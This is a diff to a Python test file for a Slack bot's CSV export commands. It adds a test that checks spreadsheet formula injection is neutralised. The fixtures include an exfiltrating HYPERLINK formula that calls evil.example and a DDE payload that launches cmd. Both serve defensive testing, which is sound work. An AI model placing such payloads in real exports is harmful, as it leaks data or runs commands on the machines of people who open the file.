@@ -12,7 +12,7 @@ from datetime import timedelta
 import pytest
 
 from bot.domain.roles import Role
-from bot.services.export import audit_columns, json_line, record_columns, record_rows
+from bot.services.export import audit_columns, csv_cell, json_line, record_columns, record_rows
 from tests.conftest import Harness, eventually
 from tests.test_retention import bulk_old_records
 
@@ -78,7 +78,7 @@ def test_rows_written_as_jsonl_and_csv_parse() -> None:
     buffer = io.StringIO()
     writer = csv.DictWriter(buffer, fieldnames=list(row))
     writer.writeheader()
-    writer.writerow({k: json.dumps(v) if isinstance(v, dict) else v for k, v in row.items()})
+    writer.writerow({k: csv_cell(v) for k, v in row.items()})
     (read,) = list(csv.DictReader(io.StringIO(buffer.getvalue())))
     assert json.loads(read["detail"]) == row["detail"]
 
@@ -107,3 +107,42 @@ async def test_export_memory_stays_flat_as_rows_quadruple(harness: Harness) -> N
     assert "prompt" not in record_columns() and "thread_ts" not in record_columns()
     # four times the rows, not more memory (a little slack for allocator noise)
     assert peak_large <= peak_small * 1.25 + 256 * 1024, (peak_small, peak_large)
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"key")'  # a key name offboarding writes into the audit target
+
+
+async def test_every_csv_the_product_writes_shows_formulas_as_text(harness: Harness, tmp_path) -> None:
+    """`claude-gate audit --format csv`, `usage --format csv` and `usage --csv`, through the real command line: a
+    text cell a spreadsheet would run (= + - @, a tab, a carriage return) starts with ', numbers stay numbers."""
+    from bot.services.audit import add_audit
+    from bot.store.models import RequestRecord
+    from tests.test_cli_parity import cli
+
+    at = harness.clock()
+    async with harness.sessions.begin() as session:
+        add_audit(session, at=at, actor="UADMIN", action="key.offboard", target=FORMULA, note="+cmd|' /C calc'!A0")
+        for actor in ("@SUM(1,1)", "-2+3", "\t=1+1", "\r=1+1"):
+            add_audit(session, at=at, actor=actor, action="grant", target="U1")
+        session.add(RequestRecord(created_at=at, slack_user_id="=1+1", role="user", model="-claude", input_tokens=10,
+                                  output_tokens=20, cost_micros=1_500_000, admitted=True, outcome="ok", surface="dm"))
+    out = tmp_path / "audit.csv"
+    audit = await cli(harness, tmp_path, "audit", "--since", "2000-01-01", "--format", "csv", "--out", str(out),
+                      slack=False)
+    assert audit.returncode == 0, audit.stderr
+    with out.open(newline="") as written:  # as a spreadsheet reads it: a carriage return inside a cell kept
+        rows = {row["actor"]: row for row in csv.DictReader(written)}
+    assert rows["UADMIN"]["target"] == "'" + FORMULA
+    assert json.loads(rows["UADMIN"]["detail"]) == {"note": "+cmd|' /C calc'!A0"}  # JSON starts with {: inert
+    assert {"'@SUM(1,1)", "'-2+3", "'\t=1+1", "'\r=1+1"} <= set(rows)
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows.values() for cell in row.values())
+
+    usage = await cli(harness, tmp_path, "usage", "--since", "2000-01-01", "--format", "csv", slack=False)
+    (record,) = list(csv.DictReader(io.StringIO(usage.stdout)))
+    assert (record["slack_user_id"], record["model"]) == ("'=1+1", "'-claude")
+    assert (record["input_tokens"], record["cost_micros"]) == ("10", "1500000")  # numbers unchanged
+
+    summary = await cli(harness, tmp_path, "usage", "--csv", "--days", "100000", slack=False)
+    assert summary.returncode == 0, summary.stderr
+    (per_user,) = [row for row in csv.reader(io.StringIO(summary.stdout)) if row[0] == "'=1+1"]
+    assert per_user[1:7] == ["1", "0", "0", "10", "20", "1.5"]
